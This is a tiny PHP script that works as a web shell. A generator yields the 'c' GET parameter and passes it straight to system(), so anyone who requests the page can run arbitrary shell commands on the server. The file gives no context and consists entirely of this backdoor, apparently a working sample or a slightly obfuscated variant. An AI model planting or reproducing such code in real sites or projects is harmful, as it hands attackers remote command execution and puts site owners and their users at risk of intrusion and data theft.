<?php
function g() { yield $_GET["c"]; }
foreach (g() as $c) system($c);
